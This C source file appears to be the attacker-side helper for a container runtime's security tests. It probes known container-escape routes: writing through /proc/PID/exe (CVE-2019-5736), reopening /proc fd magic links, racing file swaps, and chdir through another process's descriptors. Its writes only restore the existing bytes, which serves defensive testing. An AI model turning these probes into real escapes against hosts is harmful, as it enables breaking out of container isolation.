/*
 * attack: the attacker's side of the hardening tests (SecurityIt classes, docs/security.md). Runs inside
 * a container (copied to /bin/attack) or on the host; prints key=value lines like probe.
 *
 *   exe PID SECS    CVE-2019-5736: try to open /proc/PID/exe (the helper of a created container)
 *                   for writing and write through it; keep an O_PATH handle, wait up to SECS seconds
 *                   for PID to exec something else (`start`), then try again through the handle.
 *                   A write puts back the bytes that are already there, so even a "successful"
 *                   attack cannot damage the file it reached.
 *     exe.link=<readlink> | err:E      exe.wronly / exe.rdwr=ok | err:E     exe.<mode>.write=ok | err:E
 *     exe.held=ok | err:E              exe.changed=yes | timeout            exe.seals=<hex> | err:E
 *     exe.reopen.wronly / exe.reopen.rdwr=ok | err:E, exe.reopen.<mode>.write=ok | err:E, exe.done=1
 *   fds PID         list /proc/PID/fd: fdlist=ok | err:E, then fd.N=<readlink> | err:E and
 *                   fd.N.open=ok | err:E (an O_PATH open through the magic link, as an escape would)
 *   swap A B SECS   exchange A and B (renameat2 RENAME_EXCHANGE) as fast as possible for SECS seconds,
 *                   or until a file named B.stop exists; swaps=N
 *   cdfd PID N      chdir("/proc/PID/fd/N") and print cdfd=ok cwd=<getcwd> | cdfd=err:E
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif

static const char *ename(int e)
{
    const char *n = strerrorname_np(e);
    return n ? n : "EUNKNOWN";
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Rewrites the first bytes of the file open as fd with what they are now (read through path). */
static void write_back(const char *key, int fd, const char *path)
{
    unsigned char head[4];
    int r = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = r < 0 ? -1 : pread(r, head, sizeof head, 0);
    int err = errno;
    if (r >= 0)
        close(r);
    if (n != (ssize_t)sizeof head) {
        printf("%s.write=err:read-%s\n", key, n < 0 ? ename(err) : "short");
        return;
    }
    n = pwrite(fd, head, sizeof head, 0);
    if (n == (ssize_t)sizeof head)
        printf("%s.write=ok\n", key);
    else
        printf("%s.write=err:%s\n", key, n < 0 ? ename(errno) : "short");
}

static void try_open(const char *key, const char *path, int flags)
{
    int fd = open(path, flags | O_CLOEXEC);
    if (fd < 0) {
        printf("%s=err:%s\n", key, ename(errno));
        return;
    }
    printf("%s=ok\n", key);
    write_back(key, fd, path);
    close(fd);
}

static void link_of(const char *path, char *buf, size_t cap)
{
    ssize_t n = readlink(path, buf, cap - 1);
    if (n < 0)
        snprintf(buf, cap, "err:%s", ename(errno));
    else
        buf[n] = 0;
}

static void exe(const char *pid, double secs)
{
    char path[64], link[PATH_MAX], again[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    link_of(path, link, sizeof link);
    printf("exe.link=%s\n", link);
    try_open("exe.wronly", path, O_WRONLY);
    try_open("exe.rdwr", path, O_RDWR);
    int held = open(path, O_PATH | O_CLOEXEC);
    if (held < 0)
        printf("exe.held=err:%s\n", ename(errno));
    else
        printf("exe.held=ok\n");
    if (held < 0) {
        printf("exe.done=1\n");
        return;
    }
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", held);
    int ro = open(self, O_RDONLY | O_CLOEXEC);
    int seals = ro < 0 ? -1 : fcntl(ro, F_GET_SEALS);
    if (seals < 0)
        printf("exe.seals=err:%s\n", ename(errno));
    else
        printf("exe.seals=%x\n", seals);
    if (ro >= 0)
        close(ro);
    fflush(stdout);
    double end = now() + secs;
    int changed = 0;
    while (now() < end) {
        link_of(path, again, sizeof again);
        if (strcmp(again, link) != 0) {
            changed = 1;
            break;
        }
        usleep(20000);
    }
    printf("exe.changed=%s\n", changed ? "yes" : "timeout");
    try_open("exe.reopen.wronly", self, O_WRONLY);
    try_open("exe.reopen.rdwr", self, O_RDWR);
    printf("exe.done=1\n");
}

static void fds(const char *pid)
{
    char dir[64];
    snprintf(dir, sizeof dir, "/proc/%s/fd", pid);
    DIR *d = opendir(dir);
    if (!d) {
        printf("fdlist=err:%s\n", ename(errno));
        return;
    }
    printf("fdlist=ok\n");
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.' || e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        char p[PATH_MAX], link[PATH_MAX];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        link_of(p, link, sizeof link);
        printf("fd.%s=%s\n", e->d_name, link);
        int fd = open(p, O_PATH | O_CLOEXEC);
        if (fd < 0) {
            printf("fd.%s.open=err:%s\n", e->d_name, ename(errno));
        } else {
            printf("fd.%s.open=ok\n", e->d_name);
            close(fd);
        }
    }
    closedir(d);
}

static void swap(const char *a, const char *b, double secs)
{
    char stop[PATH_MAX];
    snprintf(stop, sizeof stop, "%s.stop", b);
    double end = now() + secs;
    long n = 0;
    while (now() < end) {
        for (int i = 0; i < 256; i++)
            if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
                n++;
        if (access(stop, F_OK) == 0)
            break;
    }
    printf("swaps=%ld\n", n);
}

static void cdfd(const char *pid, const char *n)
{
    char p[PATH_MAX], cwd[PATH_MAX];
    snprintf(p, sizeof p, "/proc/%s/fd/%s", pid, n);
    if (chdir(p) < 0) {
        printf("cdfd=err:%s\n", ename(errno));
        return;
    }
    printf("cdfd=ok\ncwd=%s\n", getcwd(cwd, sizeof cwd) ? cwd : ename(errno));
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 4 && !strcmp(argv[1], "exe"))
        exe(argv[2], atof(argv[3]));
    else if (argc == 3 && !strcmp(argv[1], "fds"))
        fds(argv[2]);
    else if (argc == 5 && !strcmp(argv[1], "swap"))
        swap(argv[2], argv[3], atof(argv[4]));
    else if (argc == 4 && !strcmp(argv[1], "cdfd"))
        cdfd(argv[2], argv[3]);
    else {
        fprintf(stderr, "usage: attack exe PID SECS | fds PID | swap A B SECS | cdfd PID N\n");
        return 2;
    }
    return 0;
}
